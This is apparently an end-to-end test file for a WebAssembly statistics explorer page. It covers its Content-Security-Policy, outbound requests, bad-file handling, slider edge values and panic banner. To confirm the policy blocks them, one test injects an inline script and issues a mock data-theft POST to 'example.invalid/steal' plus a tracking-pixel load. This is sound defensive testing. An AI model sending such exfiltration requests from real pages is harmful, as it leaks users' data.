// Hardening of the page: the Content-Security-Policy is in force, a whole session asks
// nothing of any other origin, bad files get their message while the previous results stay, the
// sliders' ends show no NaN, and a panic shows the banner.
// Run: make test-e2e, or `node --test e2e/hardening.test.mjs` after `trunk build --release`.

import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { ROOT, TIMEOUT_MS, analysesShown, isLocal, ready, setNumber, shot, slide, text, useExplorer } from './helpers.mjs';

const explorer = useExplorer();
const LONG = { timeout: TIMEOUT_MS * 3 };
const BAD = join(ROOT, 'tests', 'data', 'bad');

// The app's own files: the page, trunk's hashed (or, with filehash off, plain) .js, .wasm and
// .css, the samples under assets/ and the static files under www/.
const OWN_PATH = /^\/(index\.html)?$|^\/explorer(-[0-9a-f]+)?(_bg\.wasm|\.js)$|^\/style(-[0-9a-f]+)?\.css$|^\/assets\/[\w.-]+$|^\/www\/[\w./-]+$/;

test('the Content-Security-Policy is in force: injected scripts and other origins are blocked', LONG, async (t) => {
  const { page, errors, requests } = await explorer.open();
  await shot(t, page, async () => {
    // The wasm and trunk's inline loader run under the policy: the analysis finishes.
    await ready(page);
    const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    assert.match(policy, /default-src 'self'/);
    assert.match(policy, /connect-src 'self'/);
    assert.match(policy, /script-src 'self' 'wasm-unsafe-eval' 'sha256-[A-Za-z0-9+/]+=*'/, 'the build hook did not fill in the hash');
    assert.doesNotMatch(policy, /https?:|\*|'unsafe-inline'|TRUNK-LOADER/, policy);
    const outcome = await page.evaluate(async () => {
      const violations = [];
      // Violation events are queued as tasks: the three refusals below arrive after the code
      // that caused them, and `allThree` resolves when they have.
      let seen;
      const allThree = new Promise((ok) => (seen = ok));
      document.addEventListener('securitypolicyviolation', (e) => {
        violations.push(`${e.effectiveDirective} ${e.blockedURI}`);
        if (['script-src', 'connect-src', 'img-src'].every((d) => violations.some((v) => v.startsWith(d)))) seen();
      });
      window.__injectedRan = false;
      const s = document.createElement('script');
      s.textContent = 'window.__injectedRan = true;';
      document.head.appendChild(s);
      let fetched = 'sent';
      try {
        await fetch('http://example.invalid/steal', { method: 'POST', body: 'scores' });
      } catch (e) {
        fetched = `refused: ${e.name}`;
      }
      const img = new Image();
      img.src = 'https://example.invalid/pixel.png';
      await allThree;
      return { violations, injectedRan: window.__injectedRan, fetched };
    });
    assert.equal(outcome.injectedRan, false, 'an injected inline script ran');
    assert.match(outcome.fetched, /^refused/);
    assert.ok(outcome.violations.some((v) => v.startsWith('script-src')), JSON.stringify(outcome.violations));
    assert.ok(outcome.violations.includes('connect-src http://example.invalid/steal'), JSON.stringify(outcome.violations));
    assert.ok(outcome.violations.some((v) => v.startsWith('img-src https://example.invalid')), JSON.stringify(outcome.violations));
    // The fetch was refused before any request was made (the image shows up in the request log,
    // refused: helpers.mjs aborts anything not local anyway).
    assert.deepEqual(requests.filter((u) => u.includes('/steal')), []);
    // The browser reports each refusal on the console (asynchronously: wait for them); nothing
    // else went wrong.
    const csp = (message, what) => message.includes(what) && message.includes('Content Security Policy');
    const reported = (what) => errors.some((e) => e.startsWith('console:') && csp(e, what));
    for (const what of ['inline script', 'example.invalid/steal', 'example.invalid/pixel.png']) {
      if (!reported(what)) await page.waitForEvent('console', { predicate: (m) => csp(m.text(), what), timeout: 10_000 });
    }
    const other = errors.filter((e) => !/Content Security Policy/.test(e) && e !== 'request failed: https://example.invalid/pixel.png (csp)');
    assert.deepEqual(other, []);
  });
});

test('a whole session (sliders, modes, samples, an upload, the inspector) requests only the app\'s own files', LONG, async (t) => {
  const { page, errors, requests } = await explorer.open();
  await shot(t, page, async () => {
    await ready(page);
    for (const [id, pos] of [['alpha', 1], ['alpha', 100], ['beta', 0], ['beta', 200], ['sigma2', 0], ['sigma2', 189]]) {
      await slide(page, id, pos);
    }
    await page.locator('#item-next').click();
    await page.locator('#item-random').click();
    await page.locator('#item-prev').click();
    await page.locator('#kind').selectOption('nonparametric');
    await page.locator('#mode-scores').check();
    const before = await analysesShown(page);
    await page.locator('button.sample[data-file="small_long.csv"]').click();
    await ready(page, before);
    assert.match(await text(page, '#status'), /^Showing small_long\.csv/);
    await page.locator('#file').setInputFiles(join(ROOT, 'assets', 'toy_default.npz'));
    await page.locator('#stat-file').filter({ hasText: 'toy_default.npz' }).waitFor();
    await ready(page);
    await slide(page, 'alpha', 40);
    await page.locator('#item-next').click();
    await page.locator('#mode-toy').check();
    await ready(page);
    assert.deepEqual(errors, []);
  });
  const paths = requests.map((u) => (isLocal(u) && u.startsWith('http:') ? new URL(u).pathname : u));
  assert.ok(paths.some((p) => p.startsWith('/assets/small_long.csv')), 'the sample was not fetched');
  assert.deepEqual(paths.filter((p) => !OWN_PATH.test(p)), [], 'requests for anything but the app\'s own files');
});

// tests/data/bad/expected.txt: file, labels, CLI status, a fragment of the message.
function expectedMessages() {
  const rows = readFileSync(join(BAD, 'expected.txt'), 'utf8').split('\n').filter((l) => l && !l.startsWith('#'));
  return new Map(rows.map((l) => l.split('\t')).filter((f) => f[1] === '-' && f[2] === '2').map((f) => [f[0], f[3]]));
}

test('bad files through the page: each names its problem, the results stay, the page still answers', LONG, async (t) => {
  const { page, errors } = await explorer.open();
  const expected = expectedMessages();
  // One of each kind: empty, truncated .npy, wrong dtype, NaN in .npy and CSV, .npz without
  // members, ragged CSV.
  const files = ['empty.npy', 'truncated_data.npy', 'float16_nan.npy', 'float16_big_endian.npy', 'nan.npy', 'zip_without_members.npz', 'ragged.csv', 'nan.csv'];
  await shot(t, page, async () => {
    await ready(page);
    const before = await text(page, '#coverage-readout');
    const table = await text(page, '#summary-table tbody');
    await page.locator('#mode-scores').check();
    for (const name of files) {
      assert.ok(expected.has(name), `${name} is not in expected.txt`);
      await page.locator('#file').setInputFiles(join(BAD, name));
      await page.waitForFunction((n) => document.querySelector('#error').textContent.startsWith(`${n}:`), name);
      const msg = await text(page, '#error');
      assert.ok(msg.includes(expected.get(name)), `${name}: the page says "${msg}", expected "${expected.get(name)}"`);
      assert.match(msg, /The results shown are unchanged\.$/, msg);
      assert.ok(await page.locator('#error').isVisible());
      assert.equal(await text(page, '#coverage-readout'), before, `${name}: the results changed`);
      assert.equal(await text(page, '#summary-table tbody'), table);
    }
    // Still responsive: α moves the stored results, and a good file then loads.
    await slide(page, 'alpha', 30);
    await page.waitForFunction(() => document.querySelector('#coverage-readout').textContent.startsWith('α = 0.15'));
    const shownBefore = await analysesShown(page);
    await page.locator('button.sample[data-file="small_long.csv"]').click();
    await ready(page, shownBefore);
    assert.match(await text(page, '#status'), /^Showing small_long\.csv/);
    assert.deepEqual(errors, []);
  });
});

// Everything the page computes and shows as text: the header, controls and panels (the static
// formulas are left out: their MathML "inf" is the infimum), with labels and titles.
const pageText = (page) =>
  page.evaluate(() => {
    const parts = ['.bar', '#panic', '#controls', '#panels'].map((s) => document.querySelector(s)?.innerText ?? '');
    const attrs = [...document.querySelectorAll('[aria-label], [title]')].map((e) => `${e.getAttribute('aria-label') ?? ''} ${e.title}`);
    return [...parts, ...attrs].join('\n');
  });

async function assertNoNaN(page, what) {
  const all = await pageText(page);
  const bad = all.match(/.{0,40}\b(NaN|Infinity|inf)\b.{0,40}/);
  assert.equal(bad, null, `${what}: "${bad?.[0]}"`);
}

test('the sliders at both ends, on a tiny toy and a one-draw file, show no NaN or Infinity', LONG, async (t) => {
  const { page, errors } = await explorer.open();
  await shot(t, page, async () => {
    await ready(page);
    // The smallest toy the page accepts at its edges: K = 2, M = 1, three calibration items.
    const before = await analysesShown(page);
    for (const [id, v] of [['repeats', 2], ['k', 2], ['m', 1], ['n-cal', 3], ['n-test', 3]]) {
      await setNumber(page, id, v);
    }
    await ready(page, before);
    assert.match(await text(page, '#status'), /^Showing toy, 2 repeats/);
    await ready(page);
    for (const kind of ['parametric', 'pooled']) {
      await page.locator('#kind').selectOption(kind);
      await ready(page);
      for (const [id, pos] of [['alpha', 1], ['alpha', 100], ['beta', 0], ['beta', 200], ['sigma2', 0], ['sigma2', 189]]) {
        await slide(page, id, pos);
        await page.evaluate(() => new Promise((ok) => requestAnimationFrame(() => requestAnimationFrame(ok))));
        await assertNoNaN(page, `${kind}, ${id} at ${pos}`);
      }
    }
    // α = 0.005 with three calibration items: k* > n, so q̂ = +∞ and every set is full.
    await slide(page, 'alpha', 1);
    await page.waitForFunction(() => document.querySelector('#coverage-readout').textContent.startsWith('α = 0.005'));
    assert.match(await text(page, '#coverage-readout'), /CP 1\.000, CP_avg 1\.000, CP_r 1\.000/);
    assert.match(await text(page, '#inspector'), /k\* > n: full sets/);
    // A file read as M = 1 ([N, K]).
    await page.locator('#mode-scores').check();
    await page.locator('#file').setInputFiles(join(BAD, 'nk_single_draw.npz'));
    await page.locator('#stat-file').filter({ hasText: 'nk_single_draw.npz' }).waitFor();
    await ready(page);
    for (const [id, pos] of [['alpha', 1], ['alpha', 100], ['beta', 0], ['beta', 200]]) {
      await slide(page, id, pos);
      await assertNoNaN(page, `M = 1 file, ${id} at ${pos}`);
    }
    assert.deepEqual(errors, []);
  });
});

test('a panic shows the banner instead of a dead page', LONG, async (t) => {
  const { page, errors } = await explorer.open();
  await shot(t, page, async () => {
    await page.locator('#pqp').filter({ hasText: '%' }).waitFor();
    assert.ok(await page.locator('#panic').isHidden());
    const thrown = await page.evaluate(() => {
      try {
        window.wasmBindings.rvalue_test_panic();
        return 'returned';
      } catch (e) {
        return String(e);
      }
    });
    assert.match(thrown, /unreachable|RuntimeError/, thrown);
    const banner = page.locator('#panic');
    await banner.waitFor();
    const msg = await banner.textContent();
    assert.match(msg, /internal error and stopped/, msg);
    assert.match(msg, /test panic requested by rvalue_test_panic/, msg);
    assert.match(msg, /Reload the page/, msg);
    assert.ok(errors.some((e) => e.includes('rvalue-explorer panicked')), errors.join('\n'));
  });
});
